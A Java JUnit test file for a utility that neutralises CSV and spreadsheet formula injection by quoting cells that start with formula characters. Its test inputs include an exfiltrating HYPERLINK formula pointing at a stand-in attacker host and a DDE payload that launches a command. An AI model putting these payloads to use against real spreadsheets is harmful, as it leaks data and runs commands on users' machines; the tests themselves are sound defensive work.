package org.concordat.shared.application;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.io.StringReader;
import java.math.BigDecimal;
import java.time.LocalDate;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** OWASP's CSV injection rules, cell by cell, and a whole document read back as a spreadsheet would read it. */
class SpreadsheetCellsTest {

    @ParameterizedTest
    @ValueSource(strings = {"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1+1)", "\t=1+1", "\r=1+1", "\0=1+1", "=", "-"})
    void textStartingAFormulaGetsASingleQuoteInFront(String formula) {
        assertEquals("'" + formula, SpreadsheetCells.text(formula));
        assertEquals("'" + formula, SpreadsheetCells.cell(formula), "the same through cell()");
    }

    @ParameterizedTest
    @ValueSource(strings = {"Child in need", "CS-2026-4471", "2026-11-22", "a=b", "x-y", "user@example.org", " =1+1",
            "'already quoted", "42", "Ümlaut"})
    void otherTextIsLeftAlone(String text) {
        assertEquals(text, SpreadsheetCells.text(text));
    }

    @Test
    void nothingIsAnEmptyCell() {
        assertEquals("", SpreadsheetCells.text(null));
        assertEquals("", SpreadsheetCells.text(""));
        assertEquals("", SpreadsheetCells.cell(null));
    }

    @Test
    void numbersAndBooleansStayWhatTheyAre() {
        assertEquals("-3", SpreadsheetCells.cell(-3));
        assertEquals("-42", SpreadsheetCells.cell(-42L));
        assertEquals("1017", SpreadsheetCells.cell(1017L));
        assertEquals("-0.5", SpreadsheetCells.cell(-0.5d));
        assertEquals("-1500", SpreadsheetCells.cell(new BigDecimal("-1.5E+3")), "plainly, never in exponent form");
        assertEquals("true", SpreadsheetCells.cell(true));
        assertEquals("'-3", SpreadsheetCells.cell("-3"), "the same characters given as text are text");
        assertEquals("'-Infinity", SpreadsheetCells.cell(Double.NEGATIVE_INFINITY), "no number to a spreadsheet");
    }

    @Test
    void otherValuesAreWrittenAsText() {
        assertEquals("2026-11-22", SpreadsheetCells.cell(LocalDate.of(2026, 11, 22)));
        assertEquals("SHARED", SpreadsheetCells.cell(Kind.SHARED));
    }

    enum Kind { SHARED }

    @Test
    void aDocumentReadsBackCellForCellWithQuotesSeparatorsAndLineBreaksEscaped() throws Exception {
        String csv = SpreadsheetCells.csv(List.of("Entry", "Reasons", "Count"), Stream.of(
                Arrays.asList(7L, "=1+1\";=2+2", -4),
                Arrays.asList(8L, "Line one,\r\nline \"two\"", null)));
        assertEquals("Entry,Reasons,Count\r\n", csv.substring(0, csv.indexOf('\n') + 1));
        List<CSVRecord> rows = CSVFormat.DEFAULT.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(csv)).getRecords();
        assertEquals(2, rows.size());
        assertEquals(List.of("7", "'=1+1\";=2+2", "-4"), rows.get(0).toList(),
                "an injected quote and separator stay inside the one cell, which is text");
        assertEquals(List.of("8", "Line one,\r\nline \"two\"", ""), rows.get(1).toList());
    }

    @Test
    void theHeaderIsTextToo() {
        assertEquals("'=Name\r\n", SpreadsheetCells.csv(List.of("=Name"), Stream.empty()));
    }
}
